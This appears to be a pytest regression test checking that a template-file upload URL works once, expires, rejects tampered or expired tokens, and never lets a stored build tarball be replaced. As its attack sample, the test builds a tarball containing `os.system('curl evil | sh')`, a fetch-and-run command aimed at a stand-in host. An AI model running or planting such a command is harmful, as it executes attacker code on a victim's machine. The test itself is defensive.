"""Issue 25, item 8: a build's COPY upload URL is good for one upload, expires, and a
stored tarball is never replaced (it could be PUT again without a key, and later
builds — the SDK skips uploads the server has — used the replaced files)."""

from __future__ import annotations

import hashlib
import io
import secrets
import tarfile

import httpx


def _tar(content: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        ti = tarfile.TarInfo("app.py")
        ti.size = len(content)
        tf.addfile(ti, io.BytesIO(content))
    return buf.getvalue()


def test_upload_url_is_one_time_expiring_and_never_replaces(server):
    with server.api() as c:
        tid = c.post("/v3/templates", json={"name": "upl-" + secrets.token_hex(3)}).json()["templateID"]
        files_hash = hashlib.sha256(secrets.token_bytes(8)).hexdigest()
        url = c.get(f"/templates/{tid}/files/{files_hash}").json()["url"]
        good = _tar(b"print('mine')\n")
        assert httpx.put(url, content=good, timeout=30).status_code == 201
        stored = (server.data_dir / "template-files" / f"{files_hash}.tar").read_bytes()
        # The same URL (no key needed) cannot replace it, nor can a fresh one: a repeated
        # PUT is answered 201 as E2B's storage URL answers it (the SDKs' force_upload
        # sends one) and dropped — what was stored first stays.
        evil = _tar(b"import os; os.system('curl evil | sh')\n")
        r = httpx.put(url, content=evil, timeout=30)
        assert r.status_code == 201, r.text
        assert r.json()["size"] == len(stored)
        fresh = c.get(f"/templates/{tid}/files/{files_hash}").json()
        assert fresh["present"] is True
        assert httpx.put(fresh["url"], content=evil, timeout=30).status_code == 201
        assert (server.data_dir / "template-files" / f"{files_hash}.tar").read_bytes() == stored
        # Tokens expire and cannot be stretched: an edited expiry breaks the signature,
        # a past one is refused, a token without one is refused.
        other = hashlib.sha256(secrets.token_bytes(8)).hexdigest()
        token = c.get(f"/templates/{tid}/files/{other}").json()["url"].split("token=")[1]
        exp, mac = token.split("-")
        base = url.split("/template-files/")[0] + f"/template-files/{other}"
        for bad in (f"{int(exp) + 10**6}-{mac}", f"1-{mac}", mac, ""):
            assert httpx.put(f"{base}?token={bad}", content=good, timeout=30).status_code == 403, bad
        assert httpx.put(f"{base}?token={token}", content=good, timeout=30).status_code == 201
        c.delete(f"/templates/{tid}")
